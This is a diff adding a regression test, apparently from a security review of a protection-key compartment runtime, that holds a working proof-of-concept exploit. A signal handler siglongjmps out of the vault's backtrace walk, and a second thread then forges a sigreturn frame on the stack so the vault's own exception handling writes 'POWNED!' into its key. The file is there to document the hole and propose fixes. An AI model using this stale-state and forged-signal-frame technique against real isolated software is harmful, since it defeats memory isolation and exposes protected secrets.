@@ -1,0 +1,249 @@
+// Review 58, attacker model B (control of the default domain's program
+// counter; a second thread's key-0 stores for the second step, as in
+// review 53). The header of this thread's unwinder ring on its stack of a
+// compartment (runtime/unwind-copy.c, struct ring) counts the runtime's
+// own walks under way ("walks": bh_unwind_walk(1) before
+// _Unwind_Backtrace, -1 after, runtime/unwind.c). While it is not zero the
+// runtime's FDE lookup with the compartment's rights lets signal frames
+// through (bh_unwind_signal_frame_ok: an FDE whose CIE has 'S', or the
+// sigreturn stub's bytes with no FDE) and ends a walk quietly at a frame
+// whose copy it refuses: what review 53's fix refuses to a throw. The
+// count is on the compartment's key, but its decrement is skipped by any
+// jump out of the walk: a signal that interrupts the vault inside its
+// backtrace(3) runs the program's handler (the default domain's code),
+// which may leave by siglongjmp; the vault's walk then never ends and its
+// ring says "a walk is under way" on this thread for ever (owned() resets
+// it only for another thread).
+// How: the vault has an entry that calls backtrace(3) (vault_trace, a
+// diagnostic). Step 1: main calls it in a loop while a second thread sends
+// main SIGUSR1 every 200 us; main's handler looks at the interrupted pc in
+// the ucontext the kernel gave it and, when that is in libgcc_s (the
+// vault's _Unwind_Backtrace), siglongjmps to main. Step 2: review 53's
+// attack as it was (attacks-rev53-forged-sigframe.cpp: the callback's
+// return address on main's stack replaced by glibc's __restore_rt and a
+// ucontext forged above it): the vault's throw, whose lookups now find
+// "a walk under way", unwinds through the forged signal frame into
+// vault_run's catch with rbp/rbx of the attacker's, which stores "POWNED!"
+// into vault_key with the vault's rights.
+// The control ("control") does step 1 the same but forges nothing in step
+// 2 (the vault's own catch, key intact). "nojump" does step 2's forgery
+// after a step 1 whose handler never jumps: review 53's refusal, the
+// mechanism's other half (the count is what decides).
+// Seen in the guest (LLVM 19, -O0): ATTACK SUCCEEDED, 3 of 3; control
+// "vault key intact" 3 of 3; nojump: the refusal's line 3 of 3.
+// Suggested fix: nothing that decides for a throw from a count a jump can
+// leave behind. E.g. the runtime's walks pass their own marker to
+// _Unwind_Backtrace's callback and the lookup asks whether the unwinder
+// it serves is _Unwind_Backtrace (the FDE lookup's return address into
+// libgcc_s's uw_frame_state_for is the same for both: not usable), or keep
+// the count but also the walk's stack pointer, and have bh_unwind_walk's
+// users ignore a count whose walk frame is above the current stack
+// pointer (a dead walk); or block signals for the length of the runtime's
+// own walk with a compartment's rights (a walk runs no program code).
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O0 -pthread %s -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: not %run %t nojump 2>&1 | FileCheck %s --check-prefix=NOJUMP
+// RUN: not %run %t 2>&1 | FileCheck %s
+// CONTROL: left the vault's walk by siglongjmp
+// CONTROL: request failed: 1, status 0x2144454e574f50
+// CONTROL: vault key intact
+// NOJUMP: walked {{[0-9]+}} times, never left
+// NOJUMP: saved stack pointer found
+// NOJUMP-NOT: ATTACK SUCCEEDED
+// NOJUMP: the unwinder cannot unwind the frame at pc {{.*}}libc.so.6{{.*}} with a compartment's rights: a signal frame
+// CHECK: left the vault's walk by siglongjmp
+// CHECK: stub found
+// CHECK: saved stack pointer found
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: the unwinder cannot unwind the frame at pc {{.*}}libc.so.6{{.*}} with a compartment's rights: a signal frame
+// CHECK-NOT: ATTACK SUCCEEDED
+// XFAIL: *
+#include <execinfo.h>
+#include <setjmp.h>
+#include <signal.h>
+#include <sys/syscall.h>
+#include "Inputs/unwind-vault.h"
+#include <link.h>
+#include <stddef.h>
+#include <ucontext.h>
+
+/* The stub's bytes in this program's code, covered by no FDE (no CFI
+ * directives): a stand-in for any such bytes in code without CFI. */
+__asm__(".text\n"
+        "nop\n"
+        "own_stub:\n"
+        "movq $15, %rax\n"
+        "syscall\n"
+        "ud2\n");
+extern "C" const unsigned char own_stub[];
+
+static const unsigned char STUB[] = {0x48, 0xc7, 0xc0, 0x0f, 0x00,
+                                     0x00, 0x00, 0x0f, 0x05};
+
+/* glibc's __restore_rt: the stub's bytes in libc's code (not exported). */
+static int find_restorer(struct dl_phdr_info *info, size_t, void *arg) {
+  const char *name = strrchr(info->dlpi_name, '/');
+  if (!name || strcmp(name, "/libc.so.6"))
+    return 0;
+  for (int i = 0; i < info->dlpi_phnum; i++) {
+    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
+    if (ph->p_type != PT_LOAD || !(ph->p_flags & PF_X))
+      continue;
+    const unsigned char *p = (const unsigned char *)(info->dlpi_addr +
+                                                     ph->p_vaddr);
+    const unsigned char *end = p + ph->p_filesz - sizeof STUB;
+    for (; p < end; p++)
+      if (!memcmp(p, STUB, sizeof STUB)) {
+        *(uintptr_t *)arg = (uintptr_t)p;
+        return 1;
+      }
+  }
+  return 0;
+}
+
+static int armed, own;
+
+static void *attacker(void *) {
+  uintptr_t key, step, run;
+  __asm__("leaq vault_key(%%rip), %0" : "=r"(key));
+  __asm__("leaq vault_step(%%rip), %0" : "=r"(step));
+  __asm__("leaq \"__bulkhead_body.vault_run\"(%%rip), %0" : "=r"(run));
+  long frame = vault_step_frame();
+  /* vault_run's return point from vault_step: after its call. */
+  uintptr_t back = 0;
+  for (const unsigned char *q = (const unsigned char *)run;
+       q < (const unsigned char *)run + 512 && !back; q++) {
+    int32_t d;
+    memcpy(&d, q + 1, 4);
+    if (q[0] == 0xe8 && (uintptr_t)q + 5 + d == step)
+      back = (uintptr_t)q + 5;
+  }
+  uintptr_t stub = (uintptr_t)own_stub;
+  if (!own && !dl_iterate_phdr(find_restorer, &stub))
+    stub = 0;
+  printf("vault_step's frame: %s, return point: %s\n",
+         frame < 0 ? "not found" : "found", back ? "found" : "not found");
+  printf("stub %s\n", stub ? "found" : "not found");
+  arm_request();
+  volatile uintptr_t *found = find_saved_sp();
+  printf("saved stack pointer %s\n", found ? "found" : "not found");
+  if (found && frame >= 0 && back && stub && armed) {
+    /* Below the saved stack pointer: the old slot, the top, then the
+     * callback's return address. The ucontext is above it (where a signal
+     * handler's return address to the stub would be). */
+    volatile uintptr_t *ra = found - 4;
+    volatile char *uc = (volatile char *)(ra + 1);
+    /* vault_step's return address is 64 bytes above the saved stack
+     * pointer (the call out's six registers, slot and cookie); vault_run's
+     * stack pointer is above it and vault_step's frame. */
+    uintptr_t sp = *found + 64 + 8 + frame + 8;
+#define REG(r) (*(volatile uintptr_t *)(uc + offsetof(ucontext_t, uc_mcontext.gregs[r])))
+    REG(REG_RIP) = back - 1;
+    REG(REG_RSP) = sp;
+    REG(REG_RBX) = key;
+    REG(REG_RBP) = (uintptr_t)request.words;
+    *ra = stub;
+  }
+  if (write(ack[1], "k", 1) != 1)
+    puts("no acknowledgement");
+  return NULL;
+}
+
+
+/* A diagnostic of the vault's: its own backtrace. */
+extern "C" BULKHEAD_ENTRY(vault) int vault_trace(void) {
+  void *frames[64];
+  return backtrace(frames, 64);
+}
+
+/* libgcc_s's code, where the vault's walk runs. */
+static uintptr_t gcc_lo, gcc_hi;
+static int find_libgcc(struct dl_phdr_info *info, size_t, void *) {
+  if (!strstr(info->dlpi_name, "libgcc_s"))
+    return 0;
+  for (int i = 0; i < info->dlpi_phnum; i++) {
+    const ElfW(Phdr) *ph = &info->dlpi_phdr[i];
+    if (ph->p_type == PT_LOAD && (ph->p_flags & PF_X)) {
+      gcc_lo = info->dlpi_addr + ph->p_vaddr;
+      gcc_hi = gcc_lo + ph->p_memsz;
+    }
+  }
+  return 1;
+}
+
+static sigjmp_buf out;
+static volatile int jumping, left, stop_kicks;
+static pid_t main_tid;
+
+static void on_kick(int, siginfo_t *, void *ucv) {
+  ucontext_t *uc = (ucontext_t *)ucv;
+  uintptr_t pc = (uintptr_t)uc->uc_mcontext.gregs[REG_RIP];
+  if (jumping && pc >= gcc_lo && pc < gcc_hi)
+    siglongjmp(out, 1);
+}
+
+static void *kicker(void *) {
+  while (!stop_kicks) {
+    syscall(SYS_tgkill, getpid(), main_tid, SIGUSR1);
+    usleep(200);
+  }
+  return NULL;
+}
+
+/* Step 1: the vault's walk left behind (or not, with !jump). */
+static void leave_a_walk(int jump) {
+  dl_iterate_phdr(find_libgcc, NULL);
+  main_tid = (pid_t)syscall(SYS_gettid);
+  struct sigaction sa;
+  memset(&sa, 0, sizeof sa);
+  sa.sa_sigaction = on_kick;
+  sa.sa_flags = SA_SIGINFO;
+  sigaction(SIGUSR1, &sa, NULL);
+  jumping = jump;
+  pthread_t k;
+  pthread_create(&k, NULL, kicker, NULL);
+  int n = 0;
+  if (sigsetjmp(out, 1) == 0) {
+    for (; n < 20000; n++)
+      vault_trace();
+  } else {
+    left = 1;
+  }
+  stop_kicks = 1;
+  pthread_join(k, NULL);
+  signal(SIGUSR1, SIG_IGN);
+  if (left)
+    printf("left the vault's walk by siglongjmp\n");
+  else
+    printf("walked %d times, never left\n", n);
+}
+
+/* Room on main's stack for the ucontext above the call out's frame. */
+__attribute__((noinline)) static int run_request(long *status) {
+  volatile char pad[1024];
+  pad[0] = 1;
+  int r = vault_run(request.words, status);
+  return r + pad[0] - 1;
+}
+
+int main(int argc, char **argv) {
+  setvbuf(stdout, NULL, _IONBF, 0);
+  armed = argc < 2 || strcmp(argv[1], "control");
+  leave_a_walk(argc < 2 || strcmp(argv[1], "nojump"));
+  if (pipe(ack)) {
+    puts("no pipe");
+    return 1;
+  }
+  pthread_t t;
+  pthread_create(&t, NULL, attacker, NULL);
+  while (!ready)
+    ;
+  uintptr_t here;
+  top = &here;
+  long status = 0;
+  int failed = run_request(&status);
+  pthread_join(t, NULL);
+  report(failed, status);
+  return 0;
+}
